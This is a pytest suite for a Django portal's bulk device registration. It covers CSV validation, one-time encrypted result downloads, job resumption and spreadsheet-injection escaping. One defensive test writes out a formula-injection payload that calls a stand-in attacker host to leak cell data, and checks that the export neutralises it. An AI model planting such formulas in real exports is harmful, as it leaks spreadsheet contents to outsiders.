"""Bulk registration: every problem reported before anything is created, then a run whose results
(passwords included) are stored only encrypted and handed over exactly once."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from devices.models import Device
from devices.registration import RegistrationRequest, register_device
from pki.profiles import KeyType
from portal import bulk
from portal.models import BulkJob, BulkJobStatus, BulkResult
from tests.support.portal import csv_upload, signed_in

GOOD = (
    "name,hardware_id,key_type,site,model\n"
    "meter-1,SN-1,ec-p256,Lyon,M2\n"
    "meter-2,SN-2,ec-p256,,M3\n"
    "\n"
    "meter-3,,ec-p256,Paris,\n"
)


@pytest.fixture
def operator(ca: Any, make_user: Any, verified_login: Any, settings: Any) -> Client:
    settings.PORTAL_BULK_RUN_INLINE = True
    return signed_in(make_user, verified_login, "Operators", "bulky")


def test_check_reads_rows_and_metadata(db: Any) -> None:
    checked = bulk.check_csv(("\ufeff" + GOOD).encode())
    assert checked.ok
    assert [row["line"] for row in checked.rows] == [2, 3, 5]  # the blank line 4 is skipped
    assert checked.rows[0] == {
        "line": 2, "name": "meter-1", "hardware_id": "SN-1", "key_type": "ec-p256",
        "metadata": {"site": "Lyon", "model": "M2"},
    }  # fmt: skip
    assert checked.rows[1]["metadata"] == {"model": "M3"}
    assert checked.rows[2]["hardware_id"] == "" and checked.rows[2]["key_type"] == "ec-p256"
    assert bulk.check_csv(b"name\nsolo\n").rows[0]["key_type"] == "rsa2048"


def test_check_reports_every_problem_with_its_line(ca: Any) -> None:
    register_device(RegistrationRequest(name="old", hardware_id="SN-OLD", key_type=KeyType.EC_P256))
    text = (
        "name,hardware_id,key_type\n"
        "ok-1,SN-1,\n"  # 2
        ",SN-2,\n"  # 3: empty name
        "dup,SN-1,\n"  # 4: repeats line 2
        "bad-type,SN-4,dsa\n"  # 5
        f"{'x' * 129},SN-5,\n"  # 6: name too long
        "old-one,SN-OLD,\n"  # 7: already registered
        "extra,SN-7,rsa2048,surplus\n"  # 8: more fields than the header
    )
    checked = bulk.check_csv(text.encode())
    assert not checked.ok
    by_line = {problem.line: problem.message for problem in checked.problems}
    assert set(by_line) == {3, 4, 5, 6, 7, 8}
    assert "empty" in by_line[3]
    assert "also on line 2" in by_line[4]
    assert "dsa" in by_line[5]
    assert "longer than 128" in by_line[6]
    assert "already registered" in by_line[7]
    assert "More fields" in by_line[8]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"hardware_id\nSN-1\n", "'name' column"),
        (b"name,name\na,b\n", "each name may appear once"),
        (b"name\n", "no rows"),
        (b"name\n\xff\xfe\n", "not UTF-8"),
        (b"name,csr_file\na,a.csr\n", "onboard bulk-register"),
    ],
)
def test_check_refuses_bad_files(db: Any, data: bytes, message: str) -> None:
    checked = bulk.check_csv(data)
    assert not checked.ok and message in checked.problems[0].message


def test_check_limits_rows(db: Any) -> None:
    rows = "".join(f"d{index},\n" for index in range(5))
    checked = bulk.check_csv(f"name,hardware_id\n{rows}".encode(), max_rows=3)
    assert not checked.ok and "more than 3 rows" in checked.problems[-1].message


def test_a_bad_file_creates_nothing(operator: Client) -> None:
    answer = operator.post("/portal/bulk/", {"file": csv_upload("name,hardware_id\na,X\nb,X\n")})
    assert answer.status_code == 200
    html = answer.content.decode()
    assert "nothing was registered" in html and "also on line 2" in html
    assert not BulkJob.objects.exists() and not Device.objects.exists()


def test_upload_confirm_run_and_results_once(operator: Client) -> None:
    answer = operator.post("/portal/bulk/", {"file": csv_upload(GOOD)})
    assert answer.status_code == 302
    job_url = answer["Location"]
    report = operator.get(job_url).content.decode()
    assert "Nothing is created until you confirm" in report and "meter-2" in report
    assert not Device.objects.exists()
    job = BulkJob.objects.get()

    started = operator.post(f"{job_url}start")
    assert started.status_code == 302
    assert f"/portal/bulk/{job.pk}/" in started.cookies["bulk_key"]["path"]
    job.refresh_from_db()
    assert job.status == BulkJobStatus.FINISHED and job.done == 3 and job.failed == 0
    assert Device.objects.count() == 3
    assert Device.objects.get(hardware_id="SN-1").metadata == {"site": "Lyon", "model": "M2"}
    progress = operator.get(f"{job_url}progress").json()
    assert progress == {"status": "finished", "done": 3, "failed": 0, "total": 3, "interrupted": False}

    # At rest, the results are ciphertext only.
    for result in BulkResult.objects.filter(job=job):
        assert b"meter" not in bytes(result.sealed) and b"/download/" not in bytes(result.sealed)

    download = operator.get(f"{job_url}results.csv")
    assert download.status_code == 200 and "no-store" in download["Cache-Control"]
    rows = list(csv.DictReader(io.StringIO(download.content.decode())))
    assert [row["name"] for row in rows] == ["meter-1", "meter-2", "meter-3"]
    assert all(
        row["status"] == "active" and row["bundle_password"] and "/download/" in row["download_url"]
        for row in rows
    )
    assert {row["device_id"] for row in rows} == {
        str(pk) for pk in Device.objects.values_list("pk", flat=True)
    }
    # Offered exactly once; the ciphertext is gone.
    assert not BulkResult.objects.filter(job=job).exists()
    again = operator.get(f"{job_url}results.csv")
    assert again.status_code == 410 and "bundle_password" not in again.content.decode()
    # The passwords work.
    from tests.support.helpers import open_bundle

    assert "device.key" in open_bundle(Client(), rows[0])


def test_results_need_the_browser_that_started_the_job(
    operator: Client, make_user: Any, verified_login: Any
) -> None:
    operator.post("/portal/bulk/", {"file": csv_upload("name\nsolo\n")})
    job = BulkJob.objects.get()
    operator.post(f"/portal/bulk/{job.pk}/start")
    operator.cookies.pop("bulk_key")
    answer = operator.get(f"/portal/bulk/{job.pk}/results.csv")
    assert answer.status_code == 410 and "browser session that started" in answer.content.decode()
    assert BulkResult.objects.filter(job=job).exists()  # still there for the right browser
    colleague = signed_in(make_user, verified_login, "Operators", "colleague")
    assert colleague.get(f"/portal/bulk/{job.pk}/").status_code == 404


def test_rows_that_fail_at_registration_are_reported_not_fatal(operator: Client) -> None:
    operator.post("/portal/bulk/", {"file": csv_upload("name,hardware_id\nfirst,SN-R\nsecond,SN-S\n")})
    job = BulkJob.objects.get()
    # Taken between the check and the run.
    register_device(RegistrationRequest(name="sneaky", hardware_id="SN-S", key_type=KeyType.EC_P256))
    operator.post(f"/portal/bulk/{job.pk}/start")
    job.refresh_from_db()
    assert job.status == BulkJobStatus.FINISHED and job.done == 2 and job.failed == 1
    rows = list(
        csv.DictReader(io.StringIO(operator.get(f"/portal/bulk/{job.pk}/results.csv").content.decode()))
    )
    assert (
        rows[1]["status"] == "error"
        and "already registered" in rows[1]["error"]
        and not rows[1]["bundle_password"]
    )


def test_an_interrupted_job_continues_where_it_stopped(operator: Client, settings: Any) -> None:
    import datetime as dt

    from django.utils import timezone

    operator.post("/portal/bulk/", {"file": csv_upload("name\none\ntwo\nthree\n")})
    job = BulkJob.objects.get()
    settings.PORTAL_BULK_RUN_INLINE = False
    from unittest import mock

    with mock.patch("portal.bulk.threading.Thread"):  # the runner "dies" before doing anything
        operator.post(f"/portal/bulk/{job.pk}/start")
    assert not bulk.claim(job)  # running, heartbeat fresh: nobody else may start it
    BulkJob.objects.filter(pk=job.pk).update(heartbeat_at=timezone.now() - dt.timedelta(minutes=5))
    job.refresh_from_db()
    assert bulk.is_interrupted(job)
    assert "Continue" in operator.get(f"/portal/bulk/{job.pk}/").content.decode()
    settings.PORTAL_BULK_RUN_INLINE = True
    operator.post(f"/portal/bulk/{job.pk}/start")
    job.refresh_from_db()
    assert job.status == BulkJobStatus.FINISHED and job.done == 3
    assert Device.objects.count() == 3


def test_a_job_runs_in_a_thread(ca: Any, make_user: Any, transactional_db: Any, settings: Any) -> None:
    """The real mode: a thread of the web process, its own database connection."""
    import time

    settings.PORTAL_BULK_RUN_INLINE = False
    user = make_user("threaded")  # groups may be gone: a transactional flush removes them
    checked = bulk.check_csv(b"name\nt1\nt2\n")
    job = bulk.create_job(user, "127.0.0.1", "t.csv", checked)
    key = bytes(range(32))
    assert bulk.claim(job)
    bulk.start(job, key)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        job.refresh_from_db()
        if job.status == BulkJobStatus.FINISHED:
            break
        time.sleep(0.1)
    assert job.status == BulkJobStatus.FINISHED and job.done == 2
    assert b"t1" in bulk.collect(job, key)


def test_results_cannot_smuggle_a_formula_into_a_spreadsheet(operator: Client) -> None:
    # A name is the operator's text; in the results CSV a spreadsheet must show it, not run it.
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    written = io.StringIO()
    csv.writer(written).writerows(
        [["name", "hardware_id", "key_type"], [formula, "@SN-9", "ec-p256"], ["+plus", "-minus", "ec-p256"]]
    )
    source = written.getvalue()
    answer = operator.post("/portal/bulk/", {"file": csv_upload(source)})
    assert answer.status_code == 302, answer.content.decode()[-3000:]
    job_url = answer["Location"]
    operator.post(f"{job_url}start")
    rows = list(csv.DictReader(io.StringIO(operator.get(f"{job_url}results.csv").content.decode())))
    assert [(row["name"], row["hardware_id"]) for row in rows] == [
        ("'" + formula, "'@SN-9"),
        ("'+plus", "'-minus"),
    ]
    assert all(row["status"] == "active" and row["bundle_password"][0] not in "=+-@" for row in rows)
    # The devices keep their names as given.
    assert Device.objects.filter(name=formula, hardware_id="@SN-9").exists()


def test_the_portal_and_the_cli_write_the_same_result_file(operator: Client, tmp_path: Any) -> None:
    """One format for bulk results (onboard_cli.text_rules.RESULT_COLUMNS): a script that reads
    the portal's download reads `onboard bulk-register`'s file too."""
    from onboard_cli.bulk import ResultWriter

    operator.post("/portal/bulk/", {"file": csv_upload("name\nsolo\n")})
    job = BulkJob.objects.get()
    operator.post(f"/portal/bulk/{job.pk}/start")
    portal_header = next(
        csv.reader(io.StringIO(operator.get(f"/portal/bulk/{job.pk}/results.csv").content.decode()))
    )

    cli_file = tmp_path / "results.csv"
    writer = ResultWriter(cli_file)
    writer.write({"line": 2, "name": "solo", "status": "registered"})
    writer.close()
    with cli_file.open(newline="") as handle:
        cli_header = next(csv.reader(handle))

    assert portal_header == cli_header
    assert "link_expires_at" in cli_header and "bundle_password" in cli_header
